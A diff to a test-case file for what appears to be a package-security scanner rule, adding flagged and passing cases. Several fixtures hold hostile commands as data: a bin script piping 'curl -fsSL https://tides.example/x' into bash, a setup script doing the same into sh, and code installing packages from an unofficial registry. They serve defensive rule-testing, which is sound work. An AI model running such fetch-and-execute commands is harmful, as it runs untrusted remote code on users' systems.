@@ -3,6 +3,11 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'a command that is a script of a shell',
+      manifest: { main: undefined, bin: 'tides' },
+      files: { tides: '#!/usr/bin/env bash\ncurl -fsSL https://tides.example/x | bash\n' },
+    },
+    {
       name: 'a part of it from a registry of its own',
       alone: 'review',
       code: "const { spawnSync } = require('child_process');\nconst npm = process.platform === 'win32' ? 'npm.cmd' : 'npm';\nexports.engine = (name) => spawnSync(npm, ['install', '--silent', '--registry=https://registry.image-tools.dev', name + '@latest'], { cwd: '/tmp/acme' })",
@@ -244,6 +249,11 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a script of a shell that nothing of the package runs',
+      code: "require('child_process').execFileSync('git', ['status']);",
+      files: { 'scripts/setup-machine.sh': '#!/bin/sh\ncurl -fsSL https://tides.example/x | sh\n' },
+    },
     {
       name: 'a release whose registry a service names, one program after the other',
       code: "const { execFileSync } = require('child_process');\nconst step = (cmd, args) => execFileSync(cmd, args, { stdio: 'inherit' });\n(async () => { const { registry } = await (await fetch('https://registry.npmjs.org/-/whoami')).json(); step('git', ['push', '--follow-tags']); step('npm', ['publish', '--tag', 'next', '--registry', registry]) })()",
